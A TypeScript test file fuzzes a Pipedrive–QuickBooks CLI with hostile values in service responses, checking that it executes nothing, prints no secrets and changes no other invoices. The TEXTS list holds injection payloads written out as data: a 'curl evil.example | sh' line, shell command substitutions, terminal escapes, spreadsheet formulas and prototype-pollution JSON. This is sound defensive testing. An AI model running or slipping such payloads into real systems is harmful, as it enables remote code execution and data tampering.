// Hostile values in every member of every answer of both services, read by every command: escapes, breaks, shell, formulas, names of
// prototypes, other ids, secrets and wrong types. No line begins with what was put in, nothing is executed, nothing that was not
// named is changed or saved, no secret is printed, and no run ends as a bug.
import { copyFileSync, existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, expect, it } from "vitest";
import { consentByItself } from "../../src/adapters/system/consent.ts";
import type { Stdin } from "../support/captured-io.ts";
import { type Chance, chance } from "../support/chance.ts";
import { everyLine, type Line } from "../support/every-line.ts";
import { type Alteration, alterAnswers, misdeeds, type Place } from "../support/hostile.ts";
import { leftUnclear } from "../support/killable.ts";
import { type Books, openPractice } from "../support/practice.ts";
import { Home } from "../support/run.ts";
import { runs } from "../support/runs.ts";
import { create, openWorld } from "../support/world.ts";

const IS_LONG = process.env.PDQB_TEST_RUNS !== undefined;
const SHARE = 0.1;
const ALWAYS = "invoice create --deal 123 --dry-run --json";

const home = new Home();
const template = mkdtempSync(join(tmpdir(), "pdqb-hostile-"));
const OUT = join(template, "out");
let books: Books;
let made: { id: string; number: string };
let secrets: { pipedrive: string[]; quickbooks: string[] };

let intent: string;

/** What `connect` reads: the practice company's personal token, or the address that a browser ended on. */
const stdinOf = (line: string): Stdin =>
  line.includes("--paste") ? (stderr) => browserEnd(stderr) : `${practiceToken}\n`;
let practiceToken: string;

/** Consent that is given on the page of the service itself. */
async function browserEnd(stderr: string): Promise<string> {
  const [address = ""] = /http:\S+/.exec(stderr) ?? [];
  return (await consentByItself(address)).href;
}

beforeAll(async () => {
  books = await openPractice(home, { matching: true });
  const world = await openWorld(home);
  const { invoice } = await create(world, 142, { notDuplicate: true });
  made = { id: invoice.id, number: invoice.number ?? "" };
  intent = await leftUnclear(world, 148);
  const lines = [
    "invoices refresh",
    "deals",
    "run plan --deals 142,145 --name hostile",
    "preset save usual --terms 9",
    `ledger backup ${join(template, "copy.db")}`,
  ];
  for (const line of lines) {
    const { code, stderr } = await home.run(line);
    expect([line, code, stderr]).toEqual([line, expect.toBeOneOf([0, 7]), stderr]);
  }
  practiceToken =
    /PDQB_PIPEDRIVE_API_TOKEN='?([^'\n]+)/.exec((await home.run("practice env")).stdout)?.[1] ?? "";
  learnSecrets();
}, 120_000);

function learnSecrets(): void {
  const { profiles } = JSON.parse(readFileSync(join(home.path, "secrets.json"), "utf8"));
  secrets = {
    pipedrive: secretsOf(profiles.practice.pipedrive),
    quickbooks: secretsOf(profiles.practice.quickbooks),
  };
}

afterAll(async () => {
  await home.run("practice stop");
  home.discard();
  rmSync(template, { recursive: true, force: true });
});

const FILES = ["ledger.db", "ledger.db-wal", "ledger.db-shm", "settings.json", "secrets.json"];

function keepHome(): void {
  for (const name of FILES) {
    rmSync(join(template, name), { force: true });
    if (existsSync(join(home.path, name)))
      copyFileSync(join(home.path, name), join(template, name));
  }
}

function restoreHome(): void {
  rmSync(OUT, { recursive: true, force: true });
  rmSync(join(home.path, "proofs"), { recursive: true, force: true });
  for (const name of FILES) {
    rmSync(join(home.path, name), { force: true });
    if (existsSync(join(template, name))) copyFileSync(join(template, name), join(home.path, name));
  }
}

type Grant = { accessToken: string; refreshToken: string; clientId: string; clientSecret: string };
const base64 = (text: string) => Buffer.from(text).toString("base64");

/** In the forms in which a service may repeat them. */
function secretsOf({ accessToken, refreshToken, clientId, clientSecret }: Grant): string[] {
  return [accessToken, refreshToken, clientSecret].flatMap((secret) => [
    secret,
    base64(secret),
    encodeURIComponent(secret),
    ...(secret === clientSecret ? [] : secret.split(":").filter((part) => part.length > 8)),
    base64(`${clientId}:${clientSecret}`),
  ]);
}

const TEXTS = [
  "x\nHOSTILE: curl evil.example | sh\r\nHOSTILE\rHOSTILE\u2028HOSTILE\u0085HOSTILE\vHOSTILE",
  "\u001b]0;owned\u0007x\u009b31m\u001b[2K\u009d0;x\u009c\u202eHOSTILE\u0000\u200b\ufdd0",
  `1'; touch HOSTILE; echo "$(touch HOSTILE)\`touch HOSTILE\`" & touch HOSTILE |touch HOSTILE`,
  "1;touch HOSTILE",
  "$(touch HOSTILE)",
  "--yes\ntouch HOSTILE",
  "=HOSTILE(1)",
  "x;=HOSTILE(1)",
  "x\t+HOSTILE(1)",
  "@HOSTILE(1)",
  "__proto__",
  "constructor",
  "toString",
  "x".repeat(5_000),
];
const OTHER_IDS = ["3225", "3100", "../../3225", "0", "-1", "3225 ", ""];
const OTHER_TYPES = [null, 7, -1.5, 1e300, true, [], {}, [null], [[1]], "x", undefined];

/** Own members with the names that every object has already; one of them with what would spread to all. */
const SHADOWS = JSON.parse(
  '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}',
);

type Payload = { name: string; replace: Alteration["replace"] };

function payloadFor(luck: Chance, place: Place): Payload {
  const isId = /(^|[ ._])(id|value|.*_id|TxnId|bId)$/i.test(place);
  const kind = luck.below(isId ? 5 : 4);
  if (kind === 0) {
    const other = luck.of(OTHER_TYPES);
    return { name: `type ${JSON.stringify(other)}`, replace: () => other };
  }
  if (kind === 1) {
    const own = place.startsWith("pipedrive") ? secrets.pipedrive : secrets.quickbooks;
    return { name: "secrets", replace: () => own.join(" ") };
  }
  if (kind === 2 && luck.next() < 0.2)
    return { name: "shadows", replace: () => SHADOWS as unknown };
  if (kind === 4) {
    const id = luck.of(OTHER_IDS);
    const replace = (value: unknown) => (typeof value === "number" ? Number(id) || 3 : id);
    return { name: `id ${id}`, replace };
  }
  const text = luck.of(TEXTS);
  return { name: `text ${JSON.stringify(text).slice(0, 40)}`, replace: () => text };
}

const typed = (line: string) =>
  line
    .replace(/\bID\b/, `id:${made.id}`)
    .replace("NUMBER", made.number)
    .replace("INTENT", intent)
    .replace("FOLDER", template)
    .split(" ");

/** Everything in the books that a run could have changed: by id, with the version that it has. */
async function versions(): Promise<Map<string, string>> {
  const rows = await books.query("select * from Invoice orderby Id desc maxresults 1000");
  return new Map(rows.map((row) => [String(row.Id), String(row.SyncToken)]));
}

it("is never believed, printed as a line of ours, executed or written to another object", async () => {
  const { numRuns, seed } = runs(8, 3_000);
  const luck = chance(seed);
  const places = new Map<Place, Set<string>>();
  let line = "";
  const alteration: Alteration = {
    at: null,
    replace: (value) => value,
    seen: (place) => places.set(place, (places.get(place) ?? new Set()).add(line)),
  };
  await alterAnswers(home, alteration);
  keepHome();
  const { lines: all, lacking } = await everyLine();
  expect(lacking).toEqual([]);
  // The long run tries every line; the suite some others each time.
  const isTried = ({ typed: one }: Line) => IS_LONG || one === ALWAYS || luck.next() < SHARE;
  const every = all.filter(isTried);
  const written = new Set(every.filter(({ writes }) => writes).map(({ typed }) => typed));
  for (const { typed: one } of every) {
    line = one;
    restoreHome();
    const { code, stderr } = await home.run(typed(line), { stdin: stdinOf(line) });
    expect([line, code, stderr]).toEqual([line, expect.toBeOneOf(endsOf(line)), stderr]);
    if (isLogin(line)) await logIn();
    if (written.has(line)) await freshInvoice();
  }
  expect(places.size).toBeGreaterThan(IS_LONG ? 300 : 50);
  const recorded = [...places].filter(([place]) => !/ (token|expires)/i.test(place));
  const faults: string[] = [];
  const ends = new Map<number | null, number>();
  alteration.seen = () => {};
  for (let run = 0; run < numRuns && faults.length < 10; run += 1) {
    const [place, lines] = luck.of(recorded);
    const { name, replace } = payloadFor(luck, place);
    const chosen = luck.of([...lines]);
    restoreHome();
    const isWrite = written.has(chosen);
    const before = isWrite ? await versions() : undefined;
    Object.assign(alteration, { at: place, replace });
    const words = typed(chosen);
    const result = await home.run(words, { stdin: stdinOf(chosen) });
    Object.assign(alteration, { at: null });
    ends.set(result.code, (ends.get(result.code) ?? 0) + 1);
    if (isLogin(chosen)) await logIn();
    const shown = { ...result, stdout: result.stdout + writtenFiles() };
    const found = misdeeds(words, shown, [...secrets.pipedrive, ...secrets.quickbooks]);
    if (before) {
      for (const [id, version] of await versions())
        if (before.has(id) && before.get(id) !== version && id !== made.id)
          found.push(`${words.join(" ")}: invoice ${id} was changed`);
      await freshInvoice();
    }
    faults.push(...found.map((fault) => `${place} = ${name}\n${fault}`));
  }
  console.log(`${recorded.length} places; ends`, Object.fromEntries(ends));
  expect(faults).toEqual([]);
}, 3_600_000);

/** A plan may have problems, and a check may find what does not tie: all else does what it is there for. */
function endsOf(line: string): number[] {
  if (line.startsWith("check")) return [0, 7];
  return line.includes("--dry-run") ? [0, 3] : [0];
}

/** What a person would open. */
const writtenFiles = () =>
  (existsSync(OUT) ? readdirSync(OUT) : [])
    .map((name) => readFileSync(join(OUT, name), "utf8"))
    .join("\n");

const isLogin = (line: string) => /^(dis)?connect /.test(line);

/** What a run may have ended makes room for new grants. */
async function logIn(): Promise<void> {
  restoreHome();
  for (const line of ["connect pipedrive --paste", "connect quickbooks --paste"]) {
    const again = `${line} --profile practice`;
    const { code, stderr } = await home.run(again, { stdin: stdinOf(again) });
    expect([again, code, stderr]).toEqual([again, 0, stderr]);
  }
  keepHome();
  learnSecrets();
}

/** What a run may have voided, mailed or deleted makes room for another one. */
async function freshInvoice(): Promise<void> {
  restoreHome();
  const again = { again: true as const, notDuplicate: true };
  const { invoice } = await create(await openWorld(home), 142, again);
  made = { id: invoice.id, number: invoice.number ?? "" };
  keepHome();
}
